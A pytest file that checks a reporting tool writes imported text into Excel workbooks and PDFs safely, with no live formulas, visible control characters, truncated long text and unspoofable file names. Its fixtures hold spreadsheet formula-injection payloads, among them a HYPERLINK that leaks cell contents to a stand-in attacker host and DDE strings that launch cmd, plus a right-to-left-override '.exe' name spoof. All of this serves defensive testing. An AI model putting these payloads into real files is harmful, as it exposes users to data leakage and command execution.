"""Text from insiders' bundles in CoMSEC's reports: formulas stay text, control characters
and over-long texts are written visibly, and feedback PDFs never overwrite each other or
hide their real name."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from ipms_desktop.consolidation.merge import merge_bundles
from ipms_desktop.reports.cell_text import CELL_LIMIT
from ipms_desktop.reports.cycle_results import load_cycle_results
from ipms_desktop.reports.feedback_pdf import report_file_name, unique_report_names
from ipms_desktop.reports.workbook import write_workbook
from tests.consolidation_samples import (
    assessment_document,
    incoming,
    json_opener,
    open_local,
    write_fake_bundle,
)

FORMULAS = [
    '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click for the full report")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    '=DDE("cmd";"/C calc";"A1")',
]
LONG = "long strength" * 4000  # 52,000 characters


@pytest.fixture(scope="module")
def hostile_results(tmp_path_factory: pytest.TempPathFactory):
    folder = tmp_path_factory.mktemp("hostile")
    database = open_local(folder / "cycle.db")
    document = assessment_document(institution='=HYPERLINK("http://x.invalid","Trade")', base=50)
    items = document["items"]
    items["1a"]["strengths"] = FORMULAS
    items["1b"]["strengths"] = ["control \x01 and nul \x00 and escape \x1b[31m inside"]
    items["1c"]["afis"] = [LONG]
    merge_bundles(database, [write_fake_bundle(folder, incoming(document))], json_opener, folder)
    yield load_cycle_results(database, 2026)
    database.close()


def test_every_text_from_a_bundle_is_a_text_cell(hostile_results, tmp_path: Path) -> None:
    out = tmp_path / "cycle.xlsx"
    write_workbook(hostile_results, out, "en")
    with zipfile.ZipFile(out) as archive:
        sheets = [
            archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")
        ]
    assert not any(b"<f>" in sheet for sheet in sheets), "no formula anywhere in the workbook"
    workbook = load_workbook(out)
    texts = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    for formula in [*FORMULAS, '=HYPERLINK("http://x.invalid","Trade")']:
        matching = [cell for cell in texts if formula in cell.value]
        assert matching, formula
        assert all(cell.data_type == "s" for cell in matching)
        assert all(cell.quotePrefix for cell in matching if cell.value.startswith(formula[0]))


def test_control_characters_and_long_texts_are_written_visibly(hostile_results, tmp_path) -> None:
    out = tmp_path / "cycle.xlsx"
    write_workbook(hostile_results, out, "en")
    values = [
        cell.value
        for sheet in load_workbook(out).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert any("control \ufffd and nul \ufffd and escape \ufffd[31m inside" in v for v in values)
    # multi-line cells mark each line with its direction (reports.bidi)
    cut = [v for v in values if v.lstrip("\u200e\u200f").startswith("long strength")]
    assert cut and all(len(v) <= CELL_LIMIT for v in cut)
    # 52,000 written, and the two direction marks around the line
    assert all("text cut at Excel's cell limit: 52,002 characters" in v for v in cut)


def test_feedback_pdf_names_never_collide_or_hide_their_end() -> None:
    names = unique_report_names(
        [
            "Ministry/Health",
            "Ministry:Health",
            "MINISTRY:HEALTH",
            "A" * 80 + " first",
            "A" * 80 + " second",
            "Report\u202efdp.exe",
            "Zero\u200bwidth",
        ],
        2026,
        "en",
    )
    assert len({name.casefold() for name in names}) == len(names)
    assert names[:3] == [
        "Ministry_Health 2026 en.pdf",
        "Ministry_Health (2) 2026 en.pdf",
        "MINISTRY_HEALTH (3) 2026 en.pdf",
    ]
    assert names[4] == "A" * 80 + " (2) 2026 en.pdf"
    assert names[5] == "Reportfdp.exe 2026 en.pdf" and "\u202e" not in names[5]
    assert names[6] == "Zerowidth 2026 en.pdf"
    assert report_file_name("", 2026, "ar") == "institution 2026 ar.pdf"


def test_feedback_pdf_of_hostile_texts_is_written(hostile_results, tmp_path: Path) -> None:
    import subprocess

    from ipms_desktop.reports.feedback_pdf import write_feedback_reports

    [written] = write_feedback_reports(hostile_results, tmp_path / "pdf", "en", draft=True)
    assert written.name == "=HYPERLINK(_http___x.invalid_,_Trade_) 2026 en.pdf"
    assert written.stat().st_mode & 0o077 == 0
    text = subprocess.run(
        ["pdftotext", str(written), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "=HYPERLINK" in text
